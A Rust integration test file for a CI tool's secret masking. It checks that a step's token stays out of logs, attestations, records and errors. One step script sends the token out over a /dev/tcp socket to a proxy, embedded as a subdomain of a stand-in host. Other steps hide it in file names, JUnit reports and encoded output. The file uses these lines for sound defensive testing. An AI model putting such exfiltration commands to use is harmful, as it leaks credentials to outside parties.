//! Secrets of steps as users meet them: whatever a step does with one, it stands in no log, no statement, no record and no error.

use std::{fs, path::Path};

use base64::prelude::{BASE64_STANDARD, Engine as _};
use integration::{Ended, Project, can_run_steps};
use serde_json::{Value, json};

/// 93 bytes, as tokens are: in base64 more than a line.
const TOKEN: &str = "tok_Abc123DEF456ghi789JKL012mno345PQR678stu901VWX234yz0567ABC890def123GHI456jkl789MNO012pqr345";

fn project(steps: &str) -> Project {
    let mut project = Project::prepared();
    project.must(&[
        "image",
        "from-host",
        "--binary",
        "bash",
        "--package",
        "coreutils",
        "--output",
        "oci:images/network",
    ]);
    let text = format!(
        "version: 1\nname: secrets\nsources: {{ src: {{ path: src }} }}\ndefaults: {{ image: oci:images/base }}\nsteps:\n{steps}"
    );
    fs::write(project.path("sluicegate.yaml"), text).unwrap();
    project.set("CI_TOKEN", TOKEN);
    project
}

fn log(project: &Project, step: &str) -> String {
    project.must(&["logs", "LAST", step]).stdout
}

/// Nothing that was told and no file of the home has the token, in any case of its letters. What the statements say.
#[track_caller]
fn statements_without_token(project: &Project, ended: &Ended) -> String {
    let token = TOKEN.to_lowercase();
    for text in [&ended.stdout, &ended.stderr] {
        assert!(!text.to_lowercase().contains(&token), "{text}");
    }
    let mut statements = String::new();
    visit(&project.path("home"), &mut |path, bytes| {
        let has_token = |bytes: &[u8]| String::from_utf8_lossy(bytes).to_lowercase().contains(&token);
        assert!(!has_token(bytes), "{}", path.display());
        let Ok(bundle) = serde_json::from_slice::<Value>(bytes) else { return };
        if let Some(payload) = bundle["dsseEnvelope"]["payload"].as_str() {
            statements.push_str(&String::from_utf8(BASE64_STANDARD.decode(payload).unwrap()).unwrap());
        }
    });
    assert!(!statements.to_lowercase().contains(&token), "{statements}");
    statements
}

fn visit(folder: &Path, each: &mut dyn FnMut(&Path, &[u8])) {
    for entry in fs::read_dir(folder).unwrap().map(Result::unwrap) {
        let (path, kind) = (entry.path(), entry.file_type().unwrap());
        if kind.is_dir() && path.file_name().unwrap() != "scanner" {
            visit(&path, each);
        } else if kind.is_file() {
            each(&path, &fs::read(&path).unwrap());
        }
    }
}

#[test]
fn what_a_step_asks_for_opens_and_fails_with_is_told_without_its_secret() {
    if !can_run_steps("what_a_step_asks_for_opens_and_fails_with_is_told_without_its_secret") {
        return;
    }
    let project = project(
        "  reach:\n    image: oci:images/network\n    secrets: { TOKEN: { env: CI_TOKEN } }\n    network: { allow: [\"c.example:80\"] }\n    \
         run:\n      - bash\n      - -c\n      - |\n        \
         exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://%s.a.example/ HTTP/1.1\\r\\n\\r\\n' \"$TOKEN\" >&3; cat <&3; : > \"/tmp/$TOKEN\"\n  \
         leave:\n    needs: [reach]\n    secrets: { TOKEN: { env: CI_TOKEN } }\n    outputs: { it: /out }\n    \
         run: 'd=/out/$TOKEN; n=0; while [ $n -lt 64 ]; do d=$d/d; n=$((n+1)); done; mkdir -p $d'\n",
    );
    let ended = project.sluicegate(&["run", "--no-scan", "--observe"]);
    ended.assert(6, "left an output that cannot be kept: it at /out");
    assert!(ended.stderr.contains("\"***/d/d/"), "{ended:?}");
    let told = statements_without_token(&project, &ended);
    for word in ["***.a.example:80", "\"file:///tmp/***\""] {
        assert!(told.contains(word), "{word} is told: {told}");
    }
}

#[test]
fn a_report_with_a_secret_fails_the_step_and_is_not_kept() {
    if !can_run_steps("a_report_with_a_secret_fails_the_step_and_is_not_kept") {
        return;
    }
    let run = |report: &str| {
        let project = project(&format!(
            "  test:\n    secrets: {{ TOKEN: {{ env: CI_TOKEN }} }}\n    inputs: {{ /src: src }}\n    reports: {{ junit: /out/junit.xml }}\n    \
             run: |\n      cat > /out/junit.xml <<END\n      {report}\n      END\n"
        ));
        let ended = project.sluicegate(&["run", "--no-scan"]);
        statements_without_token(&project, &ended);
        let record = project.last_record("run");
        (ended, record["body"]["steps"][0]["status"].clone())
    };
    let suite = |name: &str| format!("<testsuite><testcase classname=\"a\" name=\"logs in {name}\"/></testsuite>");
    let (ended, status) = run(&suite("without a word"));
    ended.assert(0, "passed (1 passed");
    assert_eq!(status, json!("passed"));
    for report in [suite("as $TOKEN"), suite("as &#116;${TOKEN#t}"), "</$TOKEN>".to_owned()] {
        let (ended, status) = run(&report);
        ended.assert(6, "step test wrote one of its secrets into its report (reports.junit), which was not kept");
        assert_eq!(status, json!("failed"), "{report}");
    }
    // Without a secret such a report is refused for what it is.
    let (ended, _) = run("</nothing>");
    ended.assert(6, "left a report that can't be read");
}

#[test]
fn a_secret_is_masked_as_usual_programs_print_it() {
    if !can_run_steps("a_secret_is_masked_as_usual_programs_print_it") {
        return;
    }
    let mut project = project(
        "  use:\n    secrets: { TOKEN: { env: CI_TOKEN }, BLANKS: { env: CI_BLANKS }, MARKS: { env: CI_MARKS } }\n    run: |\n      \
         printf %s \"$TOKEN\" | base64\n      printf %s \"$TOKEN\" | base64 -w 64\n      printf %s \"$TOKEN\" | od -An -v -tx1\n      \
         printf %s \"$TOKEN\" | od -An -v -tx1 | tr -d ' \\n' | tr a-f A-F; echo\n      echo $BLANKS\n      \
         echo 'json a\\\"bb&cc xml a&quot;bb&amp;cc'\n      set -x; : \"$TOKEN\"\n",
    );
    project.set("CI_BLANKS", "  two   words ");
    project.set("CI_MARKS", "a\"bb&cc");
    let ended = project.must(&["run", "--no-scan"]);
    assert_eq!(log(&project, "use"), "***\n***\n ***\n***\n***\njson *** xml ***\n+ : ***\n");
    assert!(!statements_without_token(&project, &ended).is_empty());
}
